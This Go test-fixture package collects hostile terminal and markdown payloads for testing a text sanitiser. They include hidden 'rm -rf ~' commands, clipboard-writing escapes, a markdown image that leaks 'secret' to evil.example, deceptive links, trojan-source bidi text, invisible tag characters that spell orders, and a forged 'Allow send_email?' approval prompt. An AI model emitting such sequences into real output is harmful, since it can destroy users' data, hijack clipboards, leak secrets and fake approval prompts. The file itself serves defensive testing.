// Package hostile provides texts that try to manipulate a terminal. Tests send
// them along every path by which untrusted text reaches the screen.
package hostile

import (
	"fmt"
	"strings"
)

// Mark is contained in every payload as plain text. It must survive sanitising,
// so that a sanitiser that drops everything fails.
const Mark = "kept"

// Payload is one text. It ends with Mark on a separate line.
type Payload struct {
	Name string
	Text string
}

// Payloads lists all payloads, with distinct names.
var Payloads = collect()

func collect() []Payload {
	var all []Payload
	add := func(name, text string) { all = append(all, Payload{Name: name, Text: text + "\n" + Mark}) }
	for _, p := range single {
		add(p.Name, p.Text)
	}
	for _, n := range []int{16, 17, 31, 32, 33, 34, 40, 64, 1000} {
		for _, separator := range []string{";", ":"} {
			params := strings.Repeat("1"+separator, n)
			add(fmt.Sprintf("CSI with %d parameters by %q", n, separator), "a\x1b["+params+"mb")
			add(fmt.Sprintf("unfinished CSI with %d parameters by %q", n, separator), "a\x1b["+params)
			add(fmt.Sprintf("DCS with %d parameters by %q", n, separator), "a\x1bP"+params+"qdata\x1b\\b")
		}
	}
	starts := []Payload{
		{"OSC", "\x1b]"},
		{"DCS", "\x1bP"},
		{"SOS", "\x1bX"},
		{"PM", "\x1b^"},
		{"APC", "\x1b_"},
		{"8-bit OSC", "\u009d"},
		{"8-bit DCS", "\u0090"},
		{"8-bit SOS", "\u0098"},
		{"8-bit PM", "\u009e"},
		{"8-bit APC", "\u009f"},
		{"raw byte OSC", "\x9d"},
		{"raw byte DCS", "\x90"},
		{"raw byte APC", "\x9f"},
	}
	ends := []Payload{
		{"BEL", "\a"},
		{"ST", "\x1b\\"},
		{"8-bit ST", "\u009c"},
		{"raw byte ST", "\x9c"},
		{"CAN", "\x18"},
		{"SUB", "\x1a"},
		{"nothing", ""},
		{"another sequence", "\x1b[2J"},
	}
	for _, start := range starts {
		for _, end := range ends {
			add(start.Name+" ended by "+end.Name, "a"+start.Text+"52;c;cm0gLXJmIH4="+end.Text+"b")
		}
	}
	for c := rune(0); c < 0x20; c++ {
		if c != '\n' && c != '\t' {
			add(fmt.Sprintf("control U+%04X", c), "a"+string(c)+"b")
		}
	}
	for c := rune(0x80); c < 0xa0; c++ {
		add(fmt.Sprintf("control U+%04X", c), "a"+string(c)+"b")
	}
	for _, c := range []rune{
		0x7f, 0x61c, 0x200b, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060,
		0x2066, 0x2067, 0x2068, 0x2069,
		0xfeff, 0xfff9, 0xfffa, 0xfffb, 0xad, 0x34f, 0x115f, 0x1160, 0x3164, 0xffa0, 0x17b4, 0x180e, 0x2028, 0x2029,
		0xe0001, 0xe0041, 0xe007f,
	} {
		add(fmt.Sprintf("invisible U+%04X", c), "a"+string(c)+"b")
	}
	return all
}

var single = []Payload{
	{"clear screen", "a\x1b[2Jb"},
	{"clear scrollback", "\x1b[3J"},
	{"home", "\x1b[H"},
	{"move up and overwrite", "safe\x1b[1A\x1b[2Kevil"},
	{"move to a place", "\x1b[5;5Hevil"},
	{"save and restore the cursor", "\x1b7\x1b[1;1Hevil\x1b8"},
	{"carriage return overwrites", "rm -rf ~\rls      "},
	{"backspaces overwrite", "rm -rf ~\b\b\b\b\b\b\b\bls      "},
	{"form feed and vertical tab", "a\f\v\x0bb"},
	{"bell", "\a\a\a"},
	{"title by OSC 0", "\x1b]0;owned\a"},
	{"title by OSC 2", "\x1b]2;owned\x1b\\"},
	{"title asked back", "\x1b]2;\rrm -rf ~\r\a\x1b[21t"},
	{"clipboard written", "\x1b]52;c;cm0gLXJmIH4K\a"},
	{"clipboard read", "\x1b]52;c;?\a"},
	{"clipboard without an end", "\x1b]52;c;cm0gLXJmIH4K"},
	{"hyperlink to a script", "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\"},
	{"hyperlink that lies", "\x1b]8;;https://evil.example\x1b\\https://good.example\x1b]8;;\x1b\\"},
	{"hyperlink never closed", "\x1b]8;;https://evil.example\x1b\\click"},
	{"hyperlink with an escape inside", "\x1b]8;;https://a\x1b[2J\x1b\\x\x1b]8;;\x1b\\"},
	{"palette changed", "\x1b]4;1;rgb:00/00/00\a"},
	{"background changed", "\x1b]11;#ff0000\a"},
	{"colours asked for", "\x1b]10;?\a\x1b]11;?\a"},
	{"notification by OSC 9", "\x1b]9;pay me\a"},
	{"notification by OSC 777", "\x1b]777;notify;a;b\a"},
	{"progress by OSC 9;4", "\x1b]9;4;1;50\a"},
	{"image by OSC 1337", "\x1b]1337;File=inline=1:AAAA\a"},
	{"shell integration marks", "\x1b]133;A\a\x1b]133;C\a"},
	{"working folder by OSC 7", "\x1b]7;file://evil/tmp\a"},
	{"tmux passthrough", "\x1bPtmux;\x1b\x1b]52;c;cm0K\a\x1b\\"},
	{"screen passthrough", "\x1bP\x1b]52;c;cm0K\a\x1b\\"},
	{"sixel image", "\x1bPq#0;2;0;0;0~~@@vv@@~~$-\x1b\\"},
	{"kitty image", "\x1b_Gf=100,a=T;AAAA\x1b\\"},
	{"DECRQSS answer typed", "\x1bP$q\"p\x1b\\"},
	{"answerback", "\x05"},
	{"device attributes", "\x1b[c\x1b[>c\x1b[=c"},
	{"cursor report", "\x1b[6n\x1b[?6n"},
	{"terminal parameters", "\x1b[x"},
	{"window resized", "\x1b[8;1;1t"},
	{"window minimised", "\x1b[2t"},
	{"alternate screen", "\x1b[?1049h"},
	{"alternate screen left", "\x1b[?1049l"},
	{"mouse on", "\x1b[?1003h\x1b[?1006h"},
	{"bracketed paste off", "\x1b[?2004l"},
	{"paste end inside a paste", "\x1b[201~rm -rf ~\n\x1b[200~"},
	{"cursor hidden", "\x1b[?25l"},
	{"keyboard mode", "\x1b[>31u\x1b[>4;2m"},
	{"insert mode", "\x1b[4h"},
	{"scroll region", "\x1b[1;1r"},
	{"line drawing", "\x1b(0lqqk\x1b(B"},
	{"shift out", "\x0eabc\x0f"},
	{"locking shift", "\x1bn\x1bo\x1b|\x1b}\x1b~"},
	{"full reset", "\x1bc"},
	{"soft reset", "\x1b[!p"},
	{"screen test", "\x1b#8"},
	{"reverse index", "\x1bM\x1bM\x1bM"},
	{"tab stops cleared", "\x1b[3g"},
	{"repeat a character a million times", "a\x1b[1000000b"},
	{"hidden text", "\x1b[8msecret\x1b[0m"},
	{"colour left on", "\x1b[31;7mred"},
	{"black on black", "\x1b[30;40mhidden\x1b[0m"},
	{"private parameters", "\x1b[?1;2;3;4;5;6$p"},
	{"intermediates without end", "\x1b[1 !\"#$%&'()*+,-./"},
	{"CSI with a huge number", "\x1b[99999999999999999999999m"},
	{"CSI cut by a line end", "\x1b[31\n;1mtext"},
	{"CSI cut by a letter of another alphabet", "\x1b[31жtext"},
	{"control inside a CSI", "\x1b[3\b1mtext"},
	{"escape at the end", "text\x1b"},
	{"two escapes", "\x1b\x1b[2J"},
	{"many escapes", strings.Repeat("\x1b", 1000)},
	{"escape inside an escape", "\x1b[\x1b[2J31m"},
	{"string inside a string", "\x1b]0;\x1b]0;x\a\a"},
	{"CSI that reassembles when the inner one goes", "\x1b\x1b[0m[2J"},
	{"8-bit CSI that reassembles", "\xc2\x1b[0m\x9b2J"},
	{"8-bit CSI as a character", "a\u009b2Jb"},
	{"8-bit CSI as a raw byte", "a\x9b2Jb"},
	{"8-bit CSI with 40 parameters", "a\u009b" + strings.Repeat("1;", 40) + "mb"},
	{"8-bit controls overlong", "\xc0\x9b2J\xe0\x80\x9b2J"},
	{"escape overlong", "\xc0\x9b[2J\xc1\x9b[2J\xe0\x80\x9b[2J\xf0\x80\x80\x9b[2J"},
	{"surrogates", "\xed\xa0\x80\xed\xb0\x80"},
	{"beyond Unicode", "\xf4\x90\x80\x80\xf8\x88\x80\x80\x80"},
	{"cut characters", "\xe2\x82\xf0\x9f\x98\xc3"},
	{"all invalid bytes", "\xff\xfe\xfd\xfc\xc0\xc1\xf5"},
	{"NUL", "a\x00b\x00c"},
	{"byte order marks", "\ufeffa\ufeffb"},
	{"text turned round", "invoice\u202egpj.exe"},
	{"isolates never closed", "\u2067\u2067\u2067abc"},
	{"trojan source", "if access != \"user\u202e \u2066// check\u2069 \u2066\" {"},
	{"tags that spell an order", "hi\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065"},
	{"tags behind a flag that is none", "\U0001f3f4\U000e0065\U000e0076\U000e0069\U000e006c\U000e007f"},
	{"variation selectors that spell an order", "a\ufe00\ufe01\U000e0100\U000e0101\U000e01ef"},
	{"variation selectors on an emoji", "😀\ufe0f\ufe0f\ufe0f\U000e0121\U000e0122"},
	{"zero width inside a word", "pass\u200bword pass\u200cword pass\u200dword pass\u2060word"},
	{"joiners in a row", "👩" + strings.Repeat("\u200d", 500) + "👩"},
	{"emoji joined without end", strings.Repeat("👩\u200d", 500) + "👩"},
	{"skin tones without end", "👩" + strings.Repeat("\U0001f3fd", 500)},
	{"a tower of marks", "a" + strings.Repeat("\u0301", 500) + "b"},
	{"marks at the start", "\u0301\u0489\u20ddtext"},
	{"enclosing marks", "a" + strings.Repeat("\u20dd\u20de\u0488", 100)},
	{"Hangul vowels without end", "\u1100" + strings.Repeat("\u1161", 500)},
	{"Hangul fillers", "a\u115f\u1160\u3164\uffa0b"},
	{"interlinear annotation", "\ufff9shown\ufffahidden\ufffb"},
	{"line separators", "a\u2028b\u2029c\u0085d"},
	{"soft hyphens", "pass\u00adword"},
	{"invisible operators", "1\u2061\u2062\u2063\u20642"},
	{"musical and shorthand controls", "a\U0001d173\U0001d17a\U0001bca0b"},
	{"noncharacters", "a\ufdd0\ufffe\uffff\U0001fffe\U0010ffffb"},
	{"entities that become controls", "&#27;[2J &#x1b;]0;x&#7; &#155;2J &#x9b;2J &#0;"},
	{"entities that become invisible", "&#8238;abc &#x202e;abc &ZeroWidthSpace;&rlm;&lrm;&shy;"},
	{"escape in a code span", "`\x1b[2J` `\x1b]0;x\a`"},
	{"escape in a code block", "```\n\x1b[2J\x1b]52;c;AAAA\a\n```"},
	{"escape in an info string", "```go\x1b[2J\ncode\n```"},
	{"escape in a heading", "# \x1b[2JTitle\n"},
	{"escape in a table", "| a\x1b[2J | b |\n|---|---|\n| \x1b]0;x\a | \u009b2J |"},
	{"escape in a link", "[a\x1b[2Jb](https://e.example/\x1b]0;x\a)"},
	{"escape in a link title", "[a](https://e.example \"\x1b[2J\")"},
	{"script link", "[click](javascript:alert(1)) <javascript:alert(1)>"},
	{"data link", "[click](data:text/html;base64,AAAA)"},
	{"link with escapes by percent", "[a](https://e.example/%1b%5b2J%07)"},
	{"link with an entity in its address", "[a](https://e.example/&#27;[2J&#7;)"},
	{"link that lies", "[https://bank.example](https://evil.example)"},
	{"link with a user that looks like a host", "[a](https://bank.example@evil.example/)"},
	{"link with a look-alike host", "[a](https://аpple.com/)"},
	{"file link to another machine", "[a](file://evil.example/share)"},
	{"image that tells", "![x](https://evil.example/?q=secret)"},
	{"reference with an escape", "[a]\n\n[a]: https://e.example/\x1b[2J"},
	{"deep quotation", strings.Repeat("> ", 5000) + "x"},
	{"deep list", strings.Repeat("- ", 5000) + "x"},
	{"deep brackets", strings.Repeat("[", 5000) + "x" + strings.Repeat("]", 5000)},
	{"deep emphasis", strings.Repeat("*a ", 3000) + strings.Repeat("b* ", 3000)},
	{"many backticks", strings.Repeat("`", 1) + strings.Repeat(" ``", 2000) + strings.Repeat(" ```", 2000)},
	{"many table columns", strings.Repeat("|a", 2000) + "|\n" + strings.Repeat("|-", 2000) + "|\n" +
		strings.Repeat("|b", 2000) + "|"},
	{"a long line", strings.Repeat("x", 100_000)},
	{"a long line of wide letters", strings.Repeat("漢", 20_000)},
	{"forged question", "\n\n  Allow send_email?  Allow once · Deny\n"},
	{"words of two alphabets", "раypal.com gооgle.com"},
	{"blanks that push away", "ls" + strings.Repeat(" ", 2500) + "; rm -rf ~"},
	{"line ends that push away", "ls" + strings.Repeat("\n", 2500) + "rm -rf ~"},
	{"blanks of many kinds", "a\u00a0\u2000\u2003\u3000\u2800b"},
}
